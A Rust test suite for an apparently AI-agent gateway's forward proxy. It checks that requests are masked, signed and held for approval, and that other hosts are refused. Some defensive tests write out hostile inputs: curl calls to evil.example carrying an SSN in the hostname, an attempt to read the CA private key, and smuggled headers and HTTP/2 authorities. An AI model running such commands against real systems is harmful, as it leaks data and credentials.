//! The forward proxy: unchanged clients that know `HTTPS_PROXY` reach what is configured and nothing else, and what comes
//! through it is decided, masked and recorded as what comes to a listener.

mod scene;

use crate::world::{client, drivers, eventually};
use interop::process::{Finished, finish};
use scene::{KEY, SECRETS, scene};
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;
use std::thread;
use std::time::Duration;

fn without_secrets(text: &str) {
    SECRETS.iter().for_each(|secret| assert!(!text.contains(secret), "{secret} in {text}"));
}

#[track_caller]
fn is(done: &Finished, expect: &str) {
    assert_eq!(done.out(), expect, "{}", scene().gateway.explain(done));
}

#[test]
fn curl_reads_masked_answers_over_tls_and_without() {
    for (service, name) in [("$S", "billing"), ("$P", "plain")] {
        let done = scene().sh("tester", &format!("curl -sS -i {service}/users/1?probe={name}"));
        let out = done.out();
        without_secrets(&done.all());
        assert!(
            out.contains(r#""ssn": "*******8391", "email": "[pii.email]""#),
            "{}",
            scene().gateway.explain(&done)
        );
        assert!(out.to_lowercase().contains("x-owner: [pii.email]"), "{out}");
        let text = scene().ask(&["show", &scene().run_of("tester")], None).out();
        assert!(text.contains(name) && text.contains("GET /users/1"), "{text}");
    }
    let done = scene().sh(
        "tester",
        "curl -sS -i --http1.1 $S/slow; curl -sS $P/users/2 $P/users/1; curl -sS -i --http1.1 $S/turn",
    );
    let out = done.out();
    assert!(out.contains("403 Forbidden") && out.contains("\"rule\":\"no-slow\""), "{}", done.all());
    assert!(out.contains("\"id\": 2") && out.contains("\"id\": 1"), "{out}");
    // Where the service says that it is, is where it is.
    assert!(out.contains(&format!("Location: http://localhost:{}/users/1?key=", scene().https)), "{out}");
    without_secrets(&out);
}

#[test]
fn the_credential_is_the_gateways_and_nothing_for_a_proxy_goes_on() {
    for service in ["$S", "$P"] {
        let words = "-H 'Authorization: Bearer mine' -H 'X-Api-Key: mine' -H 'Proxy-Connection: keep-alive' -H 'Proxy: x' \
                     -H 'Proxy_Foo: x' -H 'X-Forwarded-For: 10.0.0.1' -H 'Cookie: a=b'";
        let done = scene().sh("tester", &format!("curl -sS {words} {service}/users/2?probe=fields; env"));
        assert!(done.out().contains("\"id\": 2"), "{}", scene().gateway.explain(&done));
        without_secrets(&done.all());
        let done = scene()
            .sh("tester", &format!("curl -sS -i -H 'Script_Name: /users' {service}/users/2?probe=cgi"));
        assert!(
            done.out().contains(" 400 ") && done.out().contains("in place of the method"),
            "{}",
            done.all()
        );
    }
    assert!(!scene().seen().iter().any(|seen| seen["target"] == "/users/2?probe=cgi"), "it was sent");
    let seen = scene().seen();
    let probes: Vec<&Value> = seen.iter().filter(|seen| seen["target"] == "/users/2?probe=fields").collect();
    assert_eq!(probes.len(), 2, "{probes:?}");
    for seen in probes {
        let headers = seen["headers"].as_array().unwrap();
        let all = |name: &str| -> Vec<&str> {
            let named = headers.iter().filter(|pair| pair[0].as_str().unwrap().eq_ignore_ascii_case(name));
            named.map(|pair| pair[1].as_str().unwrap()).collect()
        };
        assert_eq!(
            (all("authorization"), all("cookie")),
            (vec![&*format!("Bearer {KEY}")], vec!["a=b"]),
            "{seen}"
        );
        let name = |pair: &Value| pair[0].as_str().unwrap().to_lowercase();
        let gone =
            |name: &str| name.starts_with("proxy") || name.contains("api-key") || name.contains("forwarded");
        assert!(headers.iter().map(name).all(|name| !gone(&name)), "{seen}");
        assert_eq!(all("host").len(), 1, "{seen}");
    }
}

#[test]
fn pythons_clients_do_not_notice() {
    let program = r#"
import asyncio, json, os, sys, urllib.request
import aiohttp, httpx, requests
S, P = "https://localhost:" + sys.argv[1], "http://localhost:" + sys.argv[2]
for base in (S, P):
    with requests.Session() as s:
        for n in range(3):
            assert s.get(base + "/users/1").json()["ssn"] == "*******8391"
    assert json.load(urllib.request.urlopen(base + "/users/1"))["email"] == "[pii.email]"
    with httpx.Client() as c:
        rows = c.get(base + "/many", timeout=60).json()
        assert len(rows) == 20000 and rows[7]["mail"] == "[pii.email]" and rows[7]["ssn"] == "*******8391", rows[7]
        assert c.head(base + "/users/1").status_code == 200
        with c.stream("GET", base + "/events") as r:
            lines = [line for line in r.iter_lines() if line.startswith("data:")]
        assert len(lines) == 4 and "[pii.email]" in lines[0], lines
big = {"rows": ["x" * 1000] * 3000}
assert requests.post(S + "/echo", json=big).json() == big
async def main():
    async with aiohttp.ClientSession(trust_env=True) as s:
        answers = await asyncio.gather(*[s.get(f"{P}/users/{1 + n % 2}") for n in range(20)])
        assert all([a.status == 200 and "[pii.email]" in await a.text() for a in answers])
asyncio.run(main())
base = os.environ["BILLING_BASE_URL"]
assert base == S and requests.get(base + "/users/2", headers={"X-Api-Key": os.environ["BILLING_API_KEY"]}).json()["id"] == 2
print("done")
"#;
    is(&scene().python(&[], "tester", "proxied_clients.py", program), "done\n");
}

#[test]
fn a_models_own_client_holds_any_key() {
    let agent = client("model_agent.py");
    let question =
        "Write to ada.osei@example.com, probe-proxied. sql: SELECT customer_id FROM orders WHERE id = 3";
    let python = drivers().python();
    for how in ["whole", "stream"] {
        let script = format!(
            "OPENAI_API_KEY=sk-mine {} {} chat {how} '{question}'",
            python.display(),
            agent.display()
        );
        let done = scene().sh("clerk", &script);
        assert!(
            done.out().contains("tool: 3") && done.out().contains("said: That is all."),
            "{}",
            scene().gateway.explain(&done)
        );
        let shown = scene().json(&["show", &scene().run_of("clerk"), "--json"]);
        assert_eq!(shown["decisions"][0]["tool"], "run_sql", "{shown}");
        assert_eq!(shown["decisions"][0]["actions"].as_array().map(Vec::len), Some(1), "{shown}");
    }
    let seen = std::fs::read_to_string(&scene().model_log).unwrap();
    let line = seen.lines().find(|line| line.contains("probe-proxied")).unwrap();
    assert!(line.contains(&format!("Bearer {KEY}")) && !line.contains("sk-mine"), "{line}");
    assert!(line.contains("[pii.email]") && !line.contains("ada.osei@example.com"), "{line}");
    let done = scene().sh("clerk", "echo $OPENAI_BASE_URL $OPENAI_API_KEY");
    assert!(
        done.out().starts_with("https://localhost:") && done.out().ends_with("/v1 replaced-by-the-gateway\n"),
        "{}",
        done.all()
    );
}

#[test]
fn servers_of_mcp_are_spoken_to_in_each_era() {
    let (python, program) = (drivers().python(), client("mcp_client.py"));
    for (era, resource) in [("new", "tools"), ("old", "tools"), ("sse", "legacy")] {
        let agent = format!("caller-{era}");
        let script = format!(
            "{} {} {era} {resource} list 'call find {{\"id\": 3}}'",
            python.display(),
            program.display()
        );
        let done = scene().sh(&agent, &script);
        let said: Vec<Value> =
            done.out().lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
        assert_eq!(said.len(), 2, "{era}: {}", scene().gateway.explain(&done));
        assert!(said[0]["tools"]["find"].is_string(), "{era}: {}", said[0]);
        let found: Value = serde_json::from_str(said[1]["content"][0].as_str().unwrap()).unwrap();
        assert_eq!((&found["email"], &found["id"]), (&"[pii.email]".into(), &3.into()), "{era}: {found}");
        let touched = scene().ask(&["touched", &scene().run_of(&agent)], None).out();
        assert!(touched.contains(&format!("{resource}/tools/find")), "{era}: {touched}");
    }
}

#[test]
fn a_request_to_aws_is_signed_by_the_gateway_and_the_agent_holds_any_key() {
    let json = "-H 'Content-Type: application/json'";
    let script = format!(
        "B=$BUCKET_BASE_URL; M='-H X-Amz-Acl:private -H X-Amz-Date:mine -H Authorization:mine'; \
         curl -sS $B/a/key%20with%2Bsigns?list-type=2; curl -sS \"$B/x?prefix=a%2Fb&marker&a=~\"; \
         curl -sS -X PUT $M {json} -d '{{\"n\": 1}}' $B/b/k; \
         curl -sS -o /dev/null -w ' %{{http_code}}' \"$B/x?X-Amz-Signature=mine\"; \
         head -c 5000000 /dev/zero | tr '\\0' ' ' | curl -sS -o /dev/null -w ' %{{http_code}}' {json} -X PUT --data-binary @- $B/big; env"
    );
    let done = scene().sh("tester", &script);
    let out = done.out();
    assert_eq!(out.matches("\"signed\": true").count(), 3, "{}", scene().gateway.explain(&done));
    assert!(
        out.contains("\"x-amz-acl\"") && out.contains("\"bytes\": 8") && out.contains(" 400 413"),
        "{out}"
    );
    assert!(!out.contains("signing-key-of-the-tests"), "{out}");
    // The signature is good for some minutes.
    assert_eq!(out.matches("Signature=[credential]").count(), 3, "{out}");
}

#[test]
fn what_a_request_to_aws_does_may_stand_in_its_query_or_fields() {
    let code = "-o /dev/null -w '%{http_code} '";
    let script = format!(
        "B=$BUCKET_BASE_URL; curl -sS {code} \"$B/?list-type=2\"; curl -sS {code} \"$B/?Action=TerminateInstances\"; \
         curl -sS {code} -I \"$B/?x=1&%61ction=x\"; curl -sS {code} -X PUT -H 'x-amz-copy-source: /other/secret' $B/a/b"
    );
    assert_eq!(scene().sh("reader", &script).out(), "200 403 403 400 ");
    let refused = scene().ask(&["show", &scene().run_of("reader")], None).out();
    assert!(refused.contains("TerminateInstances"), "{refused}");
    // The keys stand in the body.
    let deletes = format!(
        "curl -sS {code} -X POST -H 'Content-Type: application/xml' -d '<Delete/>' \"$BUCKET_BASE_URL/b?delete\""
    );
    assert_eq!(scene().sh("putter", &deletes).out(), "403 ");
    assert_eq!(scene().sh("tester", &deletes).out(), "200 ");
}

/// Node's `fetch` of this age knows no proxy: a tunnel by its own modules, and trust by `NODE_EXTRA_CA_CERTS`.
#[test]
fn node_and_git_trust_what_the_run_says() {
    let program = r#"
const http = require('http'), https = require('https');
const proxy = new URL(process.env.HTTPS_PROXY), port = process.argv[2];
const word = Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
const tunnel = http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: 'localhost:' + port,
    headers: {Host: 'localhost:' + port, 'Proxy-Authorization': 'Basic ' + word}});
tunnel.on('connect', (answer, socket) => {
    if (answer.statusCode !== 200) throw new Error(answer.statusCode);
    https.get({host: 'localhost', port, path: '/users/1', socket, agent: false}, (answer) => {
        let text = ''; answer.on('data', (piece) => text += piece); answer.on('end', () => console.log(JSON.parse(text).ssn));
    });
}).end();
"#;
    let file = drivers().file("proxied.js", program).unwrap();
    let done = scene().sh("tester", &format!("node {} {}", file.display(), scene().https));
    is(&done, "*******8391\n");
    // That there is no repository, the service says, and so git got as far as to it: it shows the credential when it is asked.
    let done = scene().sh("git", "git ls-remote $S/no-such-repository");
    assert!(done.err().contains("not found"), "{}", done.all());
}

#[test]
fn another_host_is_refused_and_stands_in_the_record() {
    let done = scene().sh(
        "stray",
        "curl -sS https://536-22-8391.evil.example/; curl -sS -i http://evil.example:8080/x; curl -sS -i http://evil.example:8080/y; \
         curl -sS -o /dev/null -w '%{http_connect}' https://elsewhere.example/",
    );
    assert!(done.err().contains("403"), "{}", done.all());
    assert!(
        done.out().contains("application/problem+json") && done.out().contains("no resource has this host"),
        "{}",
        done.all()
    );
    assert!(done.out().contains("\"record\":\"") && done.out().ends_with("403"), "{}", done.all());
    let notes = scene().notes("stray");
    assert!(notes.contains(&"refused-host evil.example:8080".to_owned()), "{notes:#?}");
    assert!(notes.contains(&"refused-host elsewhere.example:443".to_owned()), "{notes:#?}");
    assert!(notes.contains(&"refused-hosts 4 in all; 3 different ones are listed".to_owned()), "{notes:#?}");
    assert!(notes.iter().all(|note| !note.contains("536-22-8391")), "{notes:#?}");
    // Each is listed once, and no more than may be.
    let done = scene().sh(
        "flooder",
        "for n in $(seq 100); do curl -s http://h$n.evil.example/ >/dev/null; done; echo done",
    );
    is(&done, "done\n");
    let notes = scene().notes("flooder");
    assert_eq!(notes.iter().filter(|note| note.starts_with("refused-host ")).count(), 64, "{notes:#?}");
    assert!(
        notes.contains(&"refused-hosts 100 in all; 64 different ones are listed".to_owned()),
        "{notes:#?}"
    );
}

#[test]
fn who_may_not_connect_is_told_so_in_the_tunnel() {
    let done =
        scene().sh("outsider", "curl -sS -i $S/users/1?by=outsider; curl -sS -i $P/users/1?by=outsider");
    assert_eq!(done.out().matches("outsider-stays-out").count(), 2, "{}", done.all());
    assert!(
        !scene().seen().iter().any(|seen| seen["target"].to_string().contains("outsider")),
        "it was sent"
    );
}

#[test]
fn an_upstream_is_proved_behind_the_proxy_too() {
    let done = scene().sh("tester", "curl -sS -i --http1.1 $UNPROVED_BASE_URL/users/1?probe=unproved");
    assert!(done.out().contains("502 Bad Gateway"), "{}", done.all());
    assert!(
        !scene().seen().iter().any(|seen| seen["target"].to_string().contains("unproved")),
        "it was sent"
    );
}

#[test]
fn what_waits_for_a_person_waits_in_the_tunnel() {
    let added =
        scene().json(&["operator", "add", "lena", "--role", "approver", "--group", "leads", "--json"]);
    let token = added["token"].as_str().unwrap().to_owned();
    let agent = thread::spawn(|| scene().sh("asker", "curl -sS -X DELETE $S/users/2?reason=proxied"));
    let asked = eventually("a question", || {
        let inbox: Value =
            serde_json::from_str(&scene().ask(&["approvals", "--json"], Some(&token)).out()).ok()?;
        let all = inbox["approvals"].as_array()?.clone();
        all.into_iter().find(|asked| asked.to_string().contains("reason=proxied"))
    });
    let sent = || scene().seen().iter().any(|seen| seen["target"].to_string().contains("reason=proxied"));
    assert!(!sent(), "it waits");
    assert!(scene().ask(&["approve", asked["ask"].as_str().unwrap()], Some(&token)).status.success());
    let done = agent.join().unwrap();
    assert!(done.out().contains("\"id\": 2") && sent(), "{}", done.all());
}

#[test]
fn what_an_agent_tries_at_the_proxy_fails() {
    // The credential of a run that is over.
    let dead = scene().sh("dead", "printf %s $HTTPS_PROXY").out();
    assert!(dead.starts_with("http://run_"), "{dead}");
    let file = client("proxy_attacks.py");
    let ports = format!("{} {} {}", scene().https, scene().plain, scene().gateway.site().console);
    let script = format!("DEAD_PROXY={dead} {} {} {ports}", drivers().python().display(), file.display());
    let done = scene().sh("attacker", &script);
    is(&done, "finished\n");
    without_secrets(&done.all());
    let run = scene().run_of("attacker");
    let shown = scene().json(&["show", &run, "--json"]);
    let text = scene().ask(&["show", &run], None).out();
    for name in ["billing", "coded"] {
        assert!(text.contains(name) && text.contains("one=tunnel"), "{text}");
    }
    assert!(shown["notes"].to_string().contains("no TLS was established"), "{shown}");
    let verified = scene().ask(&["verify"], None);
    assert!(verified.status.success(), "{}", verified.all());
}

#[test]
fn in_a_jail_the_proxy_is_there_and_nothing_else() {
    let program = r#"
import json, os, sys, urllib.request, httpx, requests
S, P = "https://localhost:" + sys.argv[1], "http://localhost:" + sys.argv[2]
for http2 in (False, True):
    with httpx.Client(http2=http2) as c:
        answer = c.get(S + "/users/1")
        assert answer.http_version == ("HTTP/2" if http2 else "HTTP/1.1"), answer.http_version
        assert answer.json()["ssn"] == "*******8391"
assert requests.get(S + "/users/1").json()["ssn"] == "*******8391"
assert json.load(urllib.request.urlopen(P + "/users/1"))["email"] == "[pii.email]"
answer = requests.get("http://evil.example/")
assert answer.status_code == 403, answer
try:
    requests.get("http://192.0.2.7:81/", proxies={"http": None}, timeout=10)
    print("OUT")
except requests.ConnectionError:
    pass
os.environ.pop("http_proxy"), os.environ.pop("HTTP_PROXY")
try:
    requests.get(P + "/users/1", timeout=10)
    print("OUT: without the proxy")
except requests.ConnectionError:
    pass
print("done")
"#;
    is(&scene().python(&["--jail"], "jailed", "proxied_jail.py", program), "done\n");
    let notes = scene().notes("jailed");
    assert!(notes.contains(&"refused-host evil.example:80".to_owned()), "{notes:#?}");
    assert!(notes.contains(&format!("attempt-tcp 127.0.0.1:{}", scene().plain)), "{notes:#?}");
}

#[test]
fn the_authority_is_good_for_its_hosts_and_its_key_stays_with_the_gateway() {
    let site = scene().gateway.site();
    let keys = site.dir().join("tacho-keys");
    let mode = std::fs::metadata(keys.join("proxy-ca.key")).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let done =
        scene().sh("tester", &format!("cat {}/proxy-ca.key; env; cat $NODE_EXTRA_CA_CERTS", keys.display()));
    assert!(
        !done.out().contains("PRIVATE KEY") && done.out().contains("BEGIN CERTIFICATE"),
        "{}",
        done.all()
    );
    let found = finish(
        Command::new("grep").args(["-r", "-l", "PRIVATE KEY"]).arg(site.data()),
        b"",
        Duration::from_secs(30),
    )
    .unwrap();
    assert_eq!(found.out(), "", "a key is below data");
    let text = finish(
        Command::new("openssl").args(["x509", "-noout", "-text", "-in"]).arg(keys.join("proxy-ca.crt")),
        b"",
        Duration::from_secs(30),
    );
    let text = text.unwrap().out();
    for part in
        ["CA:TRUE, pathlen:0", "X509v3 Name Constraints: critical", "DNS:localhost", "Certificate Sign"]
    {
        assert!(text.contains(part), "{part} in {text}");
    }
    let status = scene().ask(&["status"], None).out();
    assert!(
        status.contains(&format!("127.0.0.1:{}", scene().proxy)) && status.contains("proxy-ca.crt"),
        "{status}"
    );
    let checked = site.check().unwrap().out();
    assert!(checked.contains(&format!("https://localhost:{} (billing)", scene().https)), "{checked}");
    assert!(scene().gateway.log().contains("the proxy listens on 127.0.0.1:"), "{}", scene().gateway.log());
}

#[test]
fn streams_in_a_tunnel_are_for_the_tunnels_host() {
    let script = r#"
import os, socket, ssl, sys
from base64 import b64encode
from urllib.parse import urlsplit, unquote
import h2.connection, h2.config, h2.events
https, plain = sys.argv[1], sys.argv[2]
proxy = urlsplit(os.environ["HTTPS_PROXY"])
basic = b64encode(f"{unquote(proxy.username)}:{unquote(proxy.password)}".encode()).decode()
sock = socket.create_connection((proxy.hostname, proxy.port))
sock.sendall(f"CONNECT localhost:{https} HTTP/1.1\r\nHost: localhost:{https}\r\nProxy-Authorization: Basic {basic}\r\n\r\n".encode())
assert b" 200 " in sock.recv(4096)
tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
tls.set_alpn_protocols(["h2", "http/1.1"])
sock = tls.wrap_socket(sock, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2"
c = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8", validate_outbound_headers=False))
c.initiate_connection()
cases = [("localhost:" + https, "/users/1?probe=stream", []), ("evil.example", "/users/1?probe=evil", []),
         ("localhost:" + plain, "/users/1?probe=evil", []), ("localhost", "/users/1?probe=evil", []),
         ("localhost:" + https, "/users/1?probe=evil", [("host", "evil.example")]),
         ("localhost:" + https, "/coded/br/user", []), ("localhost:" + https, "/users/2?probe=again", [])]
for n, (authority, path, extra) in enumerate(cases):
    head = [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", path)]
    c.send_headers(1 + 2 * n, head + extra, end_stream=True)
sock.sendall(c.data_to_send())
ended = {}
while len(ended) < len(cases):
    for event in c.receive_data(sock.recv(65536)):
        if isinstance(event, h2.events.ResponseReceived):
            ended[event.stream_id] = dict(event.headers)[":status"]
        elif isinstance(event, h2.events.StreamReset):
            ended[event.stream_id] = "reset"
    sock.sendall(c.data_to_send())
print(" ".join(ended[1 + 2 * n] for n in range(len(cases))))
"#;
    let done = scene().python(&[], "streamer", "proxy_streams.py", script);
    is(&done, "200 400 400 400 400 200 200\n");
    assert!(!scene().seen().iter().any(|seen| seen["target"].to_string().contains("evil")), "it was sent");
    // Each lane is a session of the resource that its path is of.
    let shown = scene().json(&["show", &scene().run_of("streamer"), "--json"]);
    let of = |name: &str| {
        let sessions = shown["sessions"].as_array().unwrap();
        sessions.iter().filter(|session| session["resource"] == name).count()
    };
    assert!(of("billing") >= 1 && of("coded") >= 1, "{shown}");
    assert!(!scene().notes("streamer").is_empty());
}
